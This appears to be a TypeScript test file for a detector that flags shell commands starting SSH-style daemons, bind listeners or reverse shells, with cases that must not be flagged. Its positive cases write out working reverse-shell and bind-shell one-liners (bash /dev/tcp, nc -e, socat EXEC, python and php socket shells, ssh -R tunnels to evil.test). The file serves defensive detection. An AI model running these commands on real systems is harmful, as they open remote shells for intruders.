// Remote shells, and the socket tools that only probe or send.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandsOf, commandsOfText } from '../../shared/commands/command.ts';
import { shellListeners } from '../../shared/commands/listeners.ts';

const kinds = (text: string) => shellListeners(commandsOfText(text)).map(({ what }) => what);

describe('shellListeners', () => {
  it.each([
    ['/usr/sbin/sshd -D -e', 'daemon'],
    ['exec /usr/sbin/SSHD', 'daemon'],
    ['dropbear -F -E -p 2222', 'daemon'],
    ['busybox telnetd -l /bin/sh', 'daemon'],
    ['ttyd -p 8080 bash', 'daemon'],
    ['gotty -w sh', 'daemon'],
    ['wetty --port 3000', 'daemon'],
    ['service ssh start && apache2 -D FOREGROUND', 'daemon'],
    ['systemctl start sshd.service', 'daemon'],
    ['/etc/init.d/ssh restart', 'daemon'],
    ['nc -l -p 4444 -e /bin/sh', 'listener'],
    ['nc -lvnp 4444', 'listener'],
    ['ncat --listen 4444', 'listener'],
    ['busybox nc -lk -p 80', 'listener'],
    ['socat TCP-LISTEN:1337,fork EXEC:/bin/bash', 'listener'],
    ['sh >/dev/tcp/203.0.113.4/9001 <&1 2>&1', 'reverse'],
    ['chisel client 203.0.113.4:8080 R:2222:localhost:22', 'reverse'],
    [
      'python3 <<E\nimport socket,pty,os\ns=socket.socket();s.connect(("203.0.113.4",1));os.dup2(s.fileno(),0);pty.spawn("sh")\nE',
      'reverse',
    ],
    ['socat tcp4-l:1337,fork exec:sh,pty', 'listener'],
    ['socat OPENSSL-LISTEN:443,cert=x SYSTEM:sh', 'listener'],
    ['ssh -i /key -o StrictHostKeyChecking=no -fNR 2222:localhost:22 a@evil.test', 'reverse'],
    ['autossh -M 0 -N evil.test -R 8080:localhost:80', 'reverse'],
    ['nc 10.0.0.1 4444 -e /bin/sh', 'reverse'],
    ['ncat --sh-exec bash 10.0.0.1 4444', 'reverse'],
    ['socat TCP:10.0.0.1:4444 EXEC:bash,pty', 'reverse'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse'],
    ['cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f', 'reverse'],
    ['exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | sh', 'reverse'],
    ['exec 5<>/dev/tcp/10.0.0.1/4444; sh <&5 >&5', 'reverse'],
    ['python3 -c \'import socket,pty;s=socket.socket();pty.spawn("/bin/sh")\'', 'reverse'],
    ['php -r \'$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3");\'', 'reverse'],
    ['systemctl enable --now sshd', 'daemon'],
    ['sv up sshd', 'daemon'],
    ['s6-svc -u /run/service/sshd', 'daemon'],
    ['vncserver :1', 'daemon'],
  ])('%s: %s', (text, what) => {
    expect(kinds(text)).toEqual([what]);
  });

  it.each([
    'sshd -t',
    'ssh host',
    'ssh -N -L 5432:db:5432 bastion',
    'ssh deploy@host chmod -R 755 /srv',
    'ssh -p 22 -i /keys/R host rm -R /tmp/x',
    'ssh-keygen -A',
    'sshd_exporter',
    'echo sshd',
    'service nginx start',
    'systemctl status sshd',
    'nc -z localhost 5432',
    'nc -w 5 host 80',
    'echo x | nc 127.0.0.1 8877 || exit 1',
    'socat -v -t 0 - UDP:127.0.0.1:8125',
    'socat UNIX-LISTEN:/run/x TCP:db:5432',
    'bash -c "echo > /dev/tcp/db/5432"',
    'code-server',
    'systemctl disable --now sshd',
    'vncserver -kill :1',
    'echo stats | nc -w 1 localhost 11211',
    'cat run.sh | sh',
    'sh run.sh | nc logs 514',
    "bash -c 'exec 3<>/dev/tcp/localhost/80; cat <&3'",
    'python3 -c "import socket; socket.create_connection((\'db\', 5432))"',
    'python3 -c "import pty; print(1)"',
    'pgrep sshd',
    'rm -f /usr/sbin/sshd',
    'dropbearkey -t rsa -f x',
    'ttyd --version',
    'socat TCP-LISTEN:8080,fork TCP:db:5432',
    'chisel server --port 8080',
    'chisel client hub:8080 8081:db:5432',
    'sh /app/metrics.sh >/dev/udp/127.0.0.1/8125 2>&1',
    'python3 <<E\nimport socket\nsocket.create_connection(("db", 5432))\nE',
  ])('%s: none', (text) => {
    expect(kinds(text)).toEqual([]);
  });

  it('reads entry point and command, and answers any words', () => {
    expect(shellListeners(commandsOf(['/usr/sbin/sshd'], ['-D']))).toEqual([
      { index: 0, what: 'daemon', message: 'runs a remote shell service (sshd)' },
    ]);
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string(), fc.constantFrom('nc', '-l', 'socat', 'bash', '-i'))),
        (words) => {
          expect(Array.isArray(shellListeners(commandsOf(null, words)))).toBe(true);
        },
      ),
    );
  });
});
